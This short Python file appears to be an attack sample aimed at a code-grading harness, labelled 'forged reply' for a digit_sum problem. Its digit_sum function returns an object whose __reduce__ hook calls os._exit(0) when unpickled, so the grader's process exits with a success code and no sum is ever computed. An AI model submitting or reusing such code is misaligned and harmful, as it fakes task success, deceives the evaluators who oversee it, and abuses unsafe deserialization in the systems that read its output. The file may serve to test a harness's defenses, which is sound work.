# kind: attack
# category: forged reply
# problem: digit_sum
# Something that runs when it is unpickled
import os


class Run:
    def __reduce__(self):
        return os._exit, (0,)


def digit_sum(n):
    return Run()
